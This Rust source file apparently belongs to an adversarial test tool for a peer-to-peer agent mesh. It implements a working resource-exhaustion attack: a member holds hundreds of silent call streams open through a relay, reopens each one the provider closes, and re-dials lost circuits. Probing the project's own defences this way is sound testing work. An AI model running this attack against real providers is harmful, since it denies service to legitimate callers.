//! Attack: silent call streams to one provider.
//!
//! An enrolled member, admitted for transit at one of the provider's
//! routers, opens a relayed circuit to the provider and holds `streams`
//! call streams on it that never send a byte (not even the request): the
//! provider cannot know who the caller is by its credential, only by the
//! PeerId its connection proved. Each stream the provider closes is opened
//! again (at most once per `renew_pause` per stream slot), until
//! `duration` has passed or [`Progress::stop`] is called.
//!
//! Against a provider that bounds calls still being read only globally,
//! this takes every slot and other callers are turned away; against
//! per-caller shares it holds at most its share and its streams are closed
//! by the first-byte deadline.

use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use agentmesh_proto::pb::credential::Credential;
use agentmesh_proto::pb::mesh::Purpose;
use agentmesh_proto::protocols::CALL;
use agentmesh_streams::Control;
use futures::AsyncReadExt as _;
use libp2p::identity::Keypair;
use libp2p::{Multiaddr, PeerId, StreamProtocol};
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio::time::Instant;

use crate::counts::inc;
use crate::member::{EnrollArgs, Member, router_of};

/// Deadline of each set-up step (connect, auth, circuit, one stream open).
const STEP_DEADLINE: Duration = Duration::from_secs(10);
/// How often the circuit to the provider is checked and re-dialed if lost.
const CIRCUIT_CHECK_EVERY: Duration = Duration::from_millis(200);

/// What to attack and how hard.
#[derive(Debug, Clone)]
pub struct Attack {
    /// The router whose relay carries the circuit.
    pub router: PeerId,
    /// Its address (with or without `/p2p/ROUTER`).
    pub router_addr: Multiaddr,
    /// The provider.
    pub provider: PeerId,
    /// Silent call streams held at once.
    pub streams: usize,
    /// How long the attack runs at most.
    pub duration: Duration,
    /// Least time between two opens of one stream slot (bounds the churn
    /// when the provider refuses at once).
    pub renew_pause: Duration,
    /// Opens in flight at once: a provider's queue of negotiated streams
    /// drops a burst beyond its bound, so the attack ramps up instead of
    /// opening all its streams at once.
    pub opening: usize,
}

crate::counts::counts! {
    /// What the attack did.
    pub struct Report (live CallCounts, attack "provider-calls") {
        /// Call streams opened (negotiated with the provider).
        opened,
        /// Opens that failed (refused, reset, no connection).
        open_failed,
        /// Streams the provider closed or reset while they were silent.
        closed_by_provider,
        /// Of those, streams on which the provider wrote something first (a
        /// refusal frame) before closing.
        answered,
        /// Silent streams open now (0 once the attack returned).
        held,
        /// The most silent streams open at once.
        held_max,
        /// Circuits dialed to the provider (1 unless it was lost).
        circuits,
    }
}

/// Live counts of a running attack (shared with the caller, who may read
/// them while it runs and stop it early).
pub type Progress = crate::counts::Progress<CallCounts>;

impl CallCounts {
    fn hold(&self) {
        let now = self.held.fetch_add(1, Ordering::Relaxed) + 1;
        self.held_max.fetch_max(now, Ordering::Relaxed);
    }

    fn release(&self) {
        self.held.fetch_sub(1, Ordering::Relaxed);
    }
}

/// Runs the attack as the member with `key` and its `credential` (enrolled
/// by the caller); returns once `attack.duration` passed or
/// [`Progress::stop`] was called. Fails only if the set-up fails (router
/// unreachable, not admitted, no circuit to the provider).
pub async fn run(
    attack: &Attack,
    key: Keypair,
    credential: Credential,
    progress: Arc<Progress>,
) -> anyhow::Result<Report> {
    let end = Instant::now() + attack.duration;
    let member = Arc::new(Member::new(key)?);
    member
        .connect(attack.router, attack.router_addr.clone(), STEP_DEADLINE)
        .await?;
    member
        .authenticate(attack.router, credential, Purpose::Transit, STEP_DEADLINE)
        .await?;
    member
        .connect_through(
            attack.router,
            &attack.router_addr,
            attack.provider,
            STEP_DEADLINE,
        )
        .await?;
    inc(&progress.counts.circuits);
    tracing::info!(
        provider = %attack.provider,
        streams = attack.streams,
        "hostile member: circuit to the provider up, opening silent call streams"
    );

    let mut tasks = JoinSet::new();
    let opening = Arc::new(Semaphore::new(attack.opening.max(1)));
    for _ in 0..attack.streams {
        let worker = Worker {
            control: member.control(),
            opening: opening.clone(),
            provider: attack.provider,
            renew_pause: attack.renew_pause,
            end,
            progress: progress.clone(),
        };
        tasks.spawn(worker.run());
    }
    // Keep the circuit up: re-dial it when the provider or router drops it.
    let mut stop = progress.stopped();
    loop {
        tokio::select! {
            _ = tokio::time::sleep_until(end) => break,
            _ = stop.wait_for(|s| *s) => break,
            _ = tokio::time::sleep(CIRCUIT_CHECK_EVERY) => {}
        }
        if !member.is_connected(&attack.provider) {
            let redial = member
                .connect_through(
                    attack.router,
                    &attack.router_addr,
                    attack.provider,
                    STEP_DEADLINE,
                )
                .await;
            match redial {
                Ok(()) => {
                    inc(&progress.counts.circuits);
                }
                Err(e) => tracing::debug!(error = %e, "hostile member: circuit re-dial failed"),
            }
        }
    }
    progress.stop();
    while tasks.join_next().await.is_some() {}
    Ok(progress.report())
}

/// One stream slot of the attack: open, stay silent until closed, reopen.
struct Worker {
    control: Control,
    opening: Arc<Semaphore>,
    provider: PeerId,
    renew_pause: Duration,
    end: Instant,
    progress: Arc<Progress>,
}

impl Worker {
    async fn run(mut self) {
        let mut stop = self.progress.stopped();
        loop {
            if *stop.borrow() || Instant::now() >= self.end {
                return;
            }
            let next = Instant::now() + self.renew_pause;
            let control = &mut self.control;
            let provider = self.provider;
            let opening = &self.opening;
            let open = async move {
                let _turn = opening.acquire().await;
                control
                    .open_stream(provider, StreamProtocol::new(CALL))
                    .await
            };
            let outcome = tokio::select! {
                r = tokio::time::timeout(STEP_DEADLINE, open) => r,
                _ = stop.wait_for(|s| *s) => return,
            };
            match outcome {
                Ok(Ok(mut s)) => {
                    inc(&self.progress.counts.opened);
                    self.progress.counts.hold();
                    let mut buf = [0u8; 512];
                    let mut answered = false;
                    let closed = loop {
                        tokio::select! {
                            r = s.read(&mut buf) => match r {
                                Ok(0) | Err(_) => break true,
                                Ok(_) => answered = true,
                            },
                            _ = tokio::time::sleep_until(self.end) => break false,
                            _ = stop.wait_for(|s| *s) => break false,
                        }
                    };
                    self.progress.counts.release();
                    if closed {
                        inc(&self.progress.counts.closed_by_provider);
                        if answered {
                            inc(&self.progress.counts.answered);
                        }
                    }
                }
                Ok(Err(_)) | Err(_) => {
                    inc(&self.progress.counts.open_failed);
                }
            }
            tokio::select! {
                _ = tokio::time::sleep_until(next.min(self.end)) => {}
                _ = stop.wait_for(|s| *s) => return,
            }
        }
    }
}

/// `agentmesh-hostile provider-calls`: enroll with a member token, then
/// run the attack against a provider through one router.
#[derive(Debug, clap::Args)]
pub struct Args {
    /// Where to enroll.
    #[command(flatten)]
    pub enroll: EnrollArgs,
    /// The router to relay through, a multiaddr ending in /p2p/ROUTER_ID.
    #[arg(long)]
    pub router: Multiaddr,
    /// The provider to attack, a PeerId.
    #[arg(long)]
    pub provider: PeerId,
    /// Silent call streams held open at once, streams.
    #[arg(long, default_value_t = 320)]
    pub streams: usize,
    /// How long the attack runs, seconds.
    #[arg(long, default_value_t = 60)]
    pub duration_secs: u64,
    /// Least time between two opens of one stream slot, milliseconds.
    #[arg(long, default_value_t = 100)]
    pub renew_pause_ms: u64,
    /// Stream opens in flight at once, opens.
    #[arg(long, default_value_t = 8)]
    pub opening: usize,
}

impl Args {
    /// Enrolls a fresh key with the token and runs the attack.
    pub async fn run(self) -> anyhow::Result<Report> {
        let router = router_of(&self.router)?;
        let (key, credential) = self.enroll.enroll().await?;
        let attack = Attack {
            router,
            router_addr: self.router.clone(),
            provider: self.provider,
            streams: self.streams,
            duration: Duration::from_secs(self.duration_secs),
            renew_pause: Duration::from_millis(self.renew_pause_ms),
            opening: self.opening,
        };
        run(&attack, key, credential, Arc::new(Progress::default())).await
    }
}
